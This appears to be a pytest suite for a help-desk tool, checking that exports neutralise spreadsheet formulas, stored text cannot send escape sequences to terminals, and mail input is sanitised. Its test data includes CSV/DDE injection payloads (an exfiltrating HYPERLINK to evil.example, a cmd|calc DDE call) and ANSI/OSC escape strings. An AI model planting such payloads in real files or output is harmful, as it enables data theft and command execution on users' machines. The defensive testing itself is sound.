"""Issue 12, "Trust": no formula from user text reaches a spreadsheet; no control sequence
from stored text reaches a terminal, whatever the format; single-line fields refuse control
characters; email addresses are checked by a real parser; mail strips control characters
from the single-line fields it stores and says so.

Hostile values that the store now refuses as input (a tab, an ESC in a subject, an address
that is not one) are written straight into the tables, as data from before these checks (or
written by another tool) would be: the writers must be safe for what is stored, not only for
what is typed today.
"""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import select as select_fd
import shutil
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import insert, select, update
from textual.widgets import Input

from ticketdesk.channels.mail.parse import parse_message
from ticketdesk.models import Agent, Attachment, Customer, KbArticle, Organisation, ReplyTemplate, Tag, Team, Ticket
from ticketdesk.models import Event as EventRow
from ticketdesk.rules.query import parse_query
from ticketdesk.rules.text import FORMULA_START
from ticketdesk.screens.new_ticket import NewTicketScreen
from ticketdesk.store import InvalidInput, NewTicket, Store
from ticketdesk.store.quality.kb_articles import ArticleSpec
from ticketdesk.store.tickets.templates import TemplateSpec

from .conftest import ADMIN
from .test_cli import fails, ok
from .tui.helpers import SIZE, make_app, queue_ready, run_async, settle, text_of, until

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
CORPUS = Path(__file__).parent / "mail_corpus"


def _write(store: Store, *statements: Any) -> None:
    with store.db.write() as session:
        for statement in statements:
            session.execute(statement)


# --- 1. spreadsheets ----------------------------------------------------------------------------


@pytest.fixture
def formula_desk(store: Store) -> list[str]:
    """One ticket per payload, the payload in every exported text field: subject, category,
    customer name and email, organisation, a tag; assigned to an agent and in a team whose
    login and key are payloads too (the report's groups); reopen_count negative."""
    numbers = []
    for i, payload in enumerate(PAYLOADS):
        number = store.tickets.create(
            NewTicket(
                subject=f"subject {i}",
                customer=f"Customer {i} <c{i}@example.com>",
                tags=(f"tag{i}",),
                assignee="alice" if i % 2 else "bob",
            )
        )
        numbers.append(number)
        with store.db.write() as session:
            org_id = session.execute(insert(Organisation).values(name=payload).returning(Organisation.id)).scalar_one()
            session.execute(
                update(Customer)
                .where(Customer.email == f"c{i}@example.com")
                .values(name=payload, email=payload, organisation_id=org_id)
            )
            session.execute(update(Tag).where(Tag.name == f"tag{i}").values(name=payload))
            session.execute(
                update(Ticket)
                .where(Ticket.number == number)
                .values(subject=payload, category=payload, reopen_count=-1 - i)
            )
    _write(
        store,
        update(Agent).where(Agent.login == "alice").values(login=PAYLOADS[0]),
        update(Agent).where(Agent.login == "bob").values(login="-1+1"),
        update(Team).where(Team.key == "ops").values(key=PAYLOADS[2]),
    )
    return numbers


def _is_number(cell: str) -> bool:
    """A plain number (`-3`, `0.25`): a spreadsheet reads it as a number, never a formula."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _assert_csv_safe(text: str, *, must_hold: list[str]) -> list[dict[str, str]]:
    rows = _csv_rows(text)
    cells = [cell for row in rows for cell in row.values()]
    for cell in cells:
        assert _is_number(cell) or not cell.startswith(FORMULA_START), cell
    for payload in must_hold:  # neutralised, not dropped
        assert "'" + payload in cells, (payload, text[:3000])
    return rows


def _xlsx_cells(path: Path) -> list[Any]:
    wb = load_workbook(path)
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def _assert_xlsx_safe(path: Path, *, must_hold: list[str]) -> list[Any]:
    cells = _xlsx_cells(path)
    values = []
    for cell in cells:
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert not cell.value.startswith(FORMULA_START), (cell.coordinate, cell.value)
            values.append(cell.value.replace("\n", "\r"))  # XML reads a stored CR back as LF
    for payload in must_hold:
        assert "'" + payload in values, payload
    return cells


def test_export_csv_and_xlsx_neutralise_every_formula(
    store: Store, db_url: str, formula_desk: list[str], tmp_path: Path
) -> None:
    rows = _assert_csv_safe(ok(db_url, "export", "-f", "csv", "-o", "-"), must_hold=PAYLOADS)
    assert len(rows) == len(PAYLOADS)
    for i, row in enumerate(rows):
        for column in ("subject", "category", "customer", "customer_email", "organisation", "tags"):
            assert row[column] == "'" + PAYLOADS[i], (column, row)
        assert int(row["reopen_count"]) == -1 - i  # a negative number stays a number
        datetime.fromisoformat(row["created_at"])
    assert {rows[1]["assignee"], rows[0]["assignee"]} == {"'" + PAYLOADS[0], "'-1+1"}

    target = tmp_path / "export.xlsx"
    ok(db_url, "export", "-f", "xlsx", "-o", str(target))
    cells = _assert_xlsx_safe(target, must_hold=PAYLOADS)
    header = [c.value for c in cells[: len(rows[0])]]
    reopen = [c for c in cells if c.column == header.index("reopen_count") + 1 and c.row > 1]
    assert [(c.value, c.data_type) for c in reopen] == [(-1 - i, "n") for i in range(len(PAYLOADS))]
    created = [c for c in cells if c.column == header.index("created_at (UTC)") + 1 and c.row > 1]
    assert all(isinstance(c.value, datetime) for c in created)


def test_list_csv_neutralises_every_formula(store: Store, db_url: str, formula_desk: list[str]) -> None:
    rows = _assert_csv_safe(ok(db_url, "list", "--format", "csv"), must_hold=PAYLOADS)
    assert all(int(row["version"]) >= 1 for row in rows)  # numbers stay numbers


def test_report_csv_and_xlsx_neutralise_group_names(
    store: Store, db_url: str, formula_desk: list[str], tmp_path: Path
) -> None:
    today = datetime.now(UTC).date().isoformat()
    text = ok(db_url, "report", "--from", today, "--to", today, "-f", "csv")
    rows = _assert_csv_safe(text, must_hold=[PAYLOADS[0], "-1+1", PAYLOADS[2]])  # agent logins, a team key
    total = next(r for r in rows if r["breakdown"] == "total")
    assert int(total["created"]) == len(PAYLOADS)
    target = tmp_path / "report.xlsx"
    ok(db_url, "report", "--from", today, "--to", today, "-f", "xlsx", "-o", str(target))
    cells = _assert_xlsx_safe(target, must_hold=[PAYLOADS[0], "-1+1", PAYLOADS[2]])
    numbers = [c for c in cells if c.data_type == "n" and c.value is not None]
    assert len(PAYLOADS) in [c.value for c in numbers]  # counts are numeric cells


def test_xlsx_text_that_spells_an_error_value_stays_text(store: Store, db_url: str, tmp_path: Path) -> None:
    store.tickets.create(NewTicket(subject="#N/A"))
    target = tmp_path / "e.xlsx"
    ok(db_url, "export", "-f", "xlsx", "-o", str(target))
    (cell,) = [c for c in _xlsx_cells(target) if c.value == "#N/A"]
    assert cell.data_type == "s"


# --- 2a. terminal safety: every format on a real pty ---------------------------------------------

EVIL = "\x1b]0;PWNED\x07\x1b[2J\x9b31mC1\x1b[31mRED\x07"


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory, sqlite_template: Path) -> Iterator[tuple[str, str, int]]:
    """A SQLite desk whose stored text carries escape sequences, BEL and C1 controls in every
    place a command prints: subject, description, comment, customer, agent name, template,
    KB article, outgoing mail, attachment name, audit detail. (url, ticket number, article id)"""
    path = tmp_path_factory.mktemp("hostile") / "hostile.db"
    shutil.copyfile(sqlite_template, path)
    url = f"sqlite:///{path}"
    store = Store.open(url, login=ADMIN)
    store.people.add("alice", role="agent", team="support", name="Alice")
    number = store.tickets.create(
        NewTicket(subject="placeholder", description=f"desc {EVIL}", customer="Ann <ann@example.com>", assignee="alice")
    )
    with store.db.write() as session:
        ticket_id = session.execute(select(Ticket.id).where(Ticket.number == number)).scalar_one()
        session.execute(update(Ticket).where(Ticket.id == ticket_id).values(subject=f"subj {EVIL} end"))
        session.execute(update(Customer).where(Customer.email == "ann@example.com").values(name=f"Ann {EVIL}"))
        session.execute(update(Agent).where(Agent.login == "alice").values(display_name=f"Alice {EVIL}"))
        session.add(
            Attachment(
                ticket_id=ticket_id, filename=f"file {EVIL}.txt", content_type="text/plain", size=3,
                sha256="0" * 64, content=b"abc",
            )
        )  # fmt: skip
    store.tickets.reply(number, f"reply {EVIL}")  # queues a mail whose subject carries the ticket's
    store.templates.add(TemplateSpec(name="evil", body=f"Hello {EVIL} {{{{ customer_name }}}}"))
    store.templates.add(TemplateSpec(name="renamed", body="Hello"))
    _write(store, update(ReplyTemplate).where(ReplyTemplate.name == "renamed").values(name=f"evil {EVIL}"))
    article = store.kb.add(ArticleSpec(title=f"printer {EVIL}", symptoms=f"symptom {EVIL}", solution="x"))
    _write(store, update(KbArticle).where(KbArticle.id == article.id).values(title=f"printer {EVIL}"))
    store.audit.record("export", target=f"target {EVIL}", detail=f"detail {EVIL}")
    store.close()
    yield url, number, article.id


def _on_pty(url: str, *args: str, term: str = "dumb") -> tuple[int, str, str]:
    """Run the real CLI with stdout on a pty; (exit code, what reached the terminal, stderr)."""
    master, slave = pty.openpty()
    env = {
        **os.environ,
        "TERM": term,
        "COLUMNS": "250",
        "LINES": "50",
        "TICKETDESK_CONFIG": os.devnull + ".none.toml",
        "TICKETDESK_DB": url,
        "TICKETDESK_AGENT": ADMIN,
    }
    env.pop("NO_COLOR", None)
    if term != "dumb":
        env["FORCE_COLOR"] = "1"
    proc = subprocess.Popen(
        [sys.executable, "-m", "ticketdesk", *args],
        stdin=subprocess.DEVNULL, stdout=slave, stderr=subprocess.PIPE, env=env, close_fds=True,
    )  # fmt: skip
    os.close(slave)
    chunks = []
    while True:
        ready, _, _ = select_fd.select([master], [], [], 60)
        if not ready:
            proc.kill()
            raise AssertionError(f"{args}: no output for 60 s")
        try:
            data = os.read(master, 65536)
        except OSError:  # EIO: the child closed the terminal
            break
        if not data:
            break
        chunks.append(data)
    os.close(master)
    stderr = proc.stderr.read().decode() if proc.stderr else ""
    proc.wait(timeout=60)
    return proc.returncode, b"".join(chunks).decode("utf-8", "replace"), stderr


def _commands(number: str, article: int) -> list[list[str]]:
    today = datetime.now(UTC).date().isoformat()
    report = ["report", "--from", today, "--to", today]
    return [
        ["list"], ["list", "--format", "json"], ["list", "--format", "csv"],
        ["show", number], ["show", number, "--format", "json"],
        ["export", "-f", "csv", "-o", "-"], ["export", "-f", "jsonl", "-o", "-"],
        report, [*report, "-f", "md"], [*report, "-f", "csv"],
        ["agent", "list"], ["agent", "list", "--format", "json"],
        ["audit"], ["audit", "--format", "json"],
        ["template", "list"], ["template", "list", "--format", "json"], ["template", "show", "evil"],
        ["kb", "list"], ["kb", "list", "--format", "json"], ["kb", "show", str(article)], ["kb", "search", "printer"],
        ["mail", "outbox"], ["mail", "outbox", "--format", "json"],
        ["attachment", "list", number], ["attachment", "list", number, "--json"],
    ]  # fmt: skip


def test_no_control_sequence_from_stored_text_reaches_a_terminal(hostile_db: tuple[str, str, int]) -> None:
    """TERM=dumb: Rich writes no styling, so any ESC, BEL or C1 on the terminal came from the data."""
    url, number, article = hostile_db
    for args in _commands(number, article):
        code, shown, stderr = _on_pty(url, *args)
        assert code == 0, (args, stderr)
        for raw in ("\x1b", "\x07", "\x9b", "\r\x1b"):
            assert raw not in shown, (args, raw, shown[:2000])
        if args[0] != "report":  # a report prints group keys and figures, none of them hostile here
            assert "PWNED" in shown, (args, shown[:2000])  # shown as text (\x1b]0;PWNED…), not dropped


def test_styling_reaches_a_colour_terminal_but_nothing_from_the_data(hostile_db: tuple[str, str, int]) -> None:
    url, number, _ = hostile_db
    for args in (["list"], ["show", number]):
        code, shown, stderr = _on_pty(url, *args, term="xterm-256color")
        assert code == 0, stderr
        assert "\x1b[" in shown  # Rich's own colours and weight
        for raw in ("\x1b]0;PWNED", "\x07", "\x9b", "\x1b[2J", "\x1b[31mRED"):
            assert raw not in shown, (args, raw)
        assert "\\x1b]0;PWNED\\x07" in shown


def test_attachment_bytes_are_not_written_to_a_terminal(hostile_db: tuple[str, str, int]) -> None:
    url, number, _ = hostile_db
    store = Store.open(url, login=ADMIN)
    (info,) = store.mail.attachments(number)
    store.close()
    code, shown, stderr = _on_pty(url, "attachment", "save", str(info.id), "-o", "-")
    assert code == 1 and "abc" not in shown
    assert stderr.startswith("ticketdesk: error: will not write a file's bytes to the terminal")


def test_piped_data_formats_keep_the_stored_text_exactly(hostile_db: tuple[str, str, int]) -> None:
    url, number, _ = hostile_db
    subject = f"subj {EVIL} end"
    (row,) = json.loads(ok(url, "list", "--format", "json"))
    assert row["subject"] == subject
    raw_json = ok(url, "show", number, "--format", "json")
    assert "\x9b" not in raw_json and "\\u009b" in raw_json  # C1 escaped too: same data, safe to cat
    assert json.loads(raw_json)["subject"] == subject
    (csv_row,) = _csv_rows(ok(url, "list", "--format", "csv"))
    assert csv_row["subject"] == subject
    (export_row,) = _csv_rows(ok(url, "export", "-f", "csv", "-o", "-"))
    assert export_row["subject"] == subject and export_row["customer"] == f"Ann {EVIL}"
    (line,) = ok(url, "export", "-f", "jsonl", "-o", "-").splitlines()
    assert json.loads(line)["subject"] == subject


# --- 2b. single-line fields refuse control characters ------------------------------------------


def test_single_line_fields_refuse_control_characters(store: Store, db_url: str) -> None:
    for args, field in [
        (["new", "--subject", "Printer \x1b[31mred"], "subject"),
        (["new", "--subject", "two\tcolumns"], "subject"),
        (["new", "--subject", "ok", "--category", "hw\x9bx"], "category"),
        (["new", "--subject", "ok", "--customer", "Eve \x1b[5m <eve@example.com>"], "customer"),
        (["agent", "add", "zoe", "--name", "Zoe \x1b]0;x\x07"], "name"),
        (["agent", "add", "zo\x1be"], "login"),
    ]:
        line = fails(db_url, *args)
        assert f"error: {field} contains a control character" in line, (args, line)
        assert "\x1b" not in line and "\x9b" not in line
    assert store.tickets.count(parse_query("")) == 0
    with pytest.raises(InvalidInput, match=r"^view name contains a control character"):
        store.views.save("my\tview", "status:open")


def test_email_addresses_are_checked_by_a_real_parser(store: Store, db_url: str) -> None:
    for args, field in [
        (["new", "--subject", "ok", "--customer", "Ann <ann@localhost>"], "customer email"),
        (["new", "--subject", "ok", "--customer", "ann@@example.com"], "customer email"),
        (["new", "--subject", "ok", "--customer", "Ann <not-an-address>"], "customer email"),
        (["agent", "add", "zoe", "--email", "zoe@exa mple.com"], "email"),
        (["agent", "add", "zoe", "--email", "@example.com"], "email"),
    ]:
        line = fails(db_url, *args)
        assert f"error: {field} " in line and "not" in line, (args, line)
    number = ok(db_url, "new", "--subject", "ok", "--customer", "Ann Lee <Ann.Lee@Example.COM>").strip()
    assert store.tickets.get(number, unmask=True).customer.email == "ann.lee@example.com"
    ok(db_url, "agent", "add", "zoe", "--email", "zoe@corp")  # an intranet domain is an address


def test_from_address_in_the_config_is_checked(db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "config.toml"
    monkeypatch.setenv("TICKETDESK_CONFIG", str(path))
    for value, says in [
        ("Support <support@localhost>", "special-use or reserved"),
        ("support@@acme.example", "not a valid email address"),
    ]:
        path.write_text(f'[mail]\nfrom_address = "{value}"\n', encoding="utf-8")
        line = fails(db_url, "mail", "send")
        assert "from_address" in line and says in line, line


def test_a_reply_to_an_address_the_parser_refuses_fails_before_smtp() -> None:
    from ticketdesk.channels.smtp_send import build_message
    from ticketdesk.config import MailSettings
    from ticketdesk.store.mail.outbox import OutgoingMail

    mail = OutgoingMail(
        id=1, claim_token="t", number="202611001", to_addr="ann@localhost", subject="Re: x", body="hi",
        message_id="td.1@acme.example", in_reply_to=None, references=(), attempts=1, created_at=datetime.now(UTC),
    )  # fmt: skip
    with pytest.raises(ValueError, match=r"^recipient 'ann@localhost' is not a valid email address"):
        build_message(mail, MailSettings(from_address="Support <support@acme.example>"))


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
@run_async
async def test_the_tui_new_ticket_form_shows_the_refusal_and_keeps_the_input(store: Store) -> None:
    async with make_app(store).run_test(size=SIZE) as pilot:
        await queue_ready(pilot)
        await pilot.press("c")
        form = await until(lambda: isinstance(pilot.app.screen, NewTicketScreen) and pilot.app.screen, pilot=pilot)
        await settle(pilot)
        subject = form.query_one("#subject", Input)
        subject.value = "Printer \x1b[31mred"  # as a paste would put it there
        await pilot.press("ctrl+s")
        await until(lambda: "subject contains a control character" in text_of(form.query_one("#error")), pilot=pilot)
        assert isinstance(pilot.app.screen, NewTicketScreen) and subject.value == "Printer \x1b[31mred"
        subject.value = "Printer red"
        form.query_one("#customer", Input).value = "Ann <ann@localhost>"
        await pilot.press("ctrl+s")
        await until(lambda: "customer email" in text_of(form.query_one("#error")), pilot=pilot)
        assert isinstance(pilot.app.screen, NewTicketScreen)
        assert form.query_one("#customer", Input).value == "Ann <ann@localhost>"
    assert store.tickets.count(parse_query("")) == 0


# --- 2c. mail: control characters stripped and said; unusable sender addresses ---------------


def _events(store: Store, number: str) -> list[tuple[str, str | None]]:
    return [(e.field, e.new) for e in store.tickets.get(number).events]


def _raw_mail(subject: str, from_header: str, *, to: str = "support@acme.example", **headers: str) -> bytes:
    """A mail as it arrives: written as bytes, since the stdlib refuses to build headers that
    carry the control characters a hostile sender puts there."""
    lines = [
        f"From: {from_header}",
        f"To: {to}",
        f"Subject: {subject}",
        f"Message-ID: <{abs(hash((subject, from_header, tuple(headers.items()))))}@customer.example>",
        *(f"{name}: {value}" for name, value in headers.items()),
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "The printer is offline.",
        "",
    ]
    return "\r\n".join(lines).encode("utf-8")


def test_the_corpus_mail_with_escapes_in_its_subject_is_stripped_and_said(store: Store) -> None:
    mail = parse_message((CORPUS / "18_ansi_rich_markup.eml").read_bytes())
    assert mail.control_stripped == ("subject",)
    number = store.mail.ingest(mail).number
    assert number is not None
    detail = store.tickets.get(number, unmask=True)
    assert detail.row.subject == "Printer [bold red]urgent[/] help"  # whole sequences gone, markup kept as text
    assert ("mail", "control characters removed from the mail's subject") in _events(store, number)
    assert detail.customer.name == "Mallory"


def test_a_mail_with_esc_in_subject_and_display_name(store: Store) -> None:
    raw = _raw_mail("VPN \x1b[2Jdown\x07 again", '"Eve \x1b]0;owned\x07Lee" <eve@customer.example>')
    mail = parse_message(raw)
    assert mail.subject == "VPN down again" and mail.from_name == "Eve Lee"
    assert mail.control_stripped == ("sender name", "subject")
    number = store.mail.ingest(mail).number
    assert number is not None
    detail = store.tickets.get(number, unmask=True)
    assert (detail.row.subject, detail.customer.name, detail.customer.email) == (
        "VPN down again", "Eve Lee", "eve@customer.example",
    )  # fmt: skip
    assert ("mail", "control characters removed from the mail's sender name, subject") in _events(store, number)
    plain = parse_message(_raw_mail("Folded\r\n\tsubject", "Bo <bo@customer.example>"))
    assert plain.control_stripped == ()  # header folding is whitespace, not worth a word


def test_an_invalid_sender_address_still_makes_a_ticket_without_customer_email(store: Store) -> None:
    mail = parse_message(_raw_mail("Help", "Eve <eve@localhost>"))
    result = store.mail.ingest(mail)
    assert result.outcome == "created" and result.number is not None
    detail = store.tickets.get(result.number, unmask=True)
    assert (detail.customer.name, detail.customer.email) == ("Eve", None)
    (note,) = [new for field, new in _events(store, result.number) if field == "customer" and new and "valid" in new]
    assert "is not a valid email address" in note and "eve@localhost" not in note  # masked: events are read by all
    store.tickets.reply(result.number, "We are on it.")
    assert store.outbox.entries() == []  # no mail into the void
    # a second mail of the same name is another customer: a name is nobody's identity
    other = store.mail.ingest(parse_message(_raw_mail("Help again", "Eve <eve@localhost>", **{"X-N": "2"})))
    assert other.number is not None and other.number != result.number
    with store.db.read() as session:
        owners = session.execute(
            select(Ticket.customer_id).where(Ticket.number.in_([result.number, other.number]))
        ).scalars()
        assert len(set(owners)) == 2


def test_a_reply_from_an_invalid_address_becomes_an_internal_note(store: Store) -> None:
    number = store.mail.ingest(parse_message(_raw_mail("Printer", "Ann <ann@customer.example>"))).number
    assert number is not None
    before = store.tickets.get(number)
    reply = parse_message(_raw_mail(f"Re: [#{number}] Printer", "Ann <ann@customer.invalid>"))
    result = store.mail.ingest(reply)
    assert result.detail == "as an internal note: the sender's address is not valid"
    after = store.tickets.get(number)
    assert [c.kind for c in after.comments] == ["internal"] and after.row.status == before.row.status
    assert any(field == "mail" and new and "kept as an internal note" in new for field, new in _events(store, number))


def test_recipients_the_parser_refuses_are_left_out_with_a_note() -> None:
    mail = parse_message(_raw_mail("x", "a@customer.example", to="support@acme.example, bad@localhost", Cc="c@x..y"))
    assert mail.to_addrs == ("support@acme.example",) and mail.cc_addrs == ()
    assert any("bad@localhost" in note and "left out" in note for note in mail.notes)


def test_mail_events_are_stored_in_the_ticket_transaction(store: Store) -> None:
    """The stripping note is an event of the ticket, at the ticket's version (one transaction)."""
    mail = parse_message(_raw_mail("a\x1bb", "x@customer.example"))
    number = store.mail.ingest(mail).number
    with store.db.read() as session:
        ticket_id, version = session.execute(select(Ticket.id, Ticket.version).where(Ticket.number == number)).one()
        versions = set(
            session.execute(select(EventRow.ticket_version).where(EventRow.ticket_id == ticket_id)).scalars()
        )
    assert versions == {version}
